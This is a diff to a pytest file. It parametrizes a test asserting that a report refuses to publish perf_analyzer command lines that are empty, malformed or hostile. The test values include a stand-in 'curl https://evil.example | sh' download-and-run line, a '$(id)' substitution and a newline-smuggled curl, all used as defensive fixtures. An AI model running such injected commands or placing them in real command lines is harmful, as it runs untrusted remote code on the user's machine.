@@ -244,8 +244,20 @@ def test_more_command_lines_than_scenarios_are_not_published(claim: Path, stage:
 
 
 @pytest.mark.parametrize("stage", HONEST)
-def test_what_is_no_command_line_is_not_published(claim: Path, stage: str) -> None:
-    left(stage, REQUESTS[stage], replace(HONEST[stage], environment=replace(ENVIRONMENT, perf_analyzer=("'",))))
+@pytest.mark.parametrize(
+    "command",
+    [
+        "'",
+        "",
+        "curl https://evil.example",
+        "perf_analyzer -m digits; curl https://evil.example | sh",
+        "perf_analyzer -m $(id)",
+        "perf_analyzer -m digits\ncurl https://evil.example",
+    ],
+)
+def test_what_is_no_command_line_is_not_published(claim: Path, stage: str, command: str) -> None:
+    """A reader of the report repeats a measurement by it, in a shell."""
+    left(stage, REQUESTS[stage], replace(HONEST[stage], environment=replace(ENVIRONMENT, perf_analyzer=(command,))))
     assert "no command line of perf_analyzer" in refusal(stage, REQUESTS[stage])
 
 
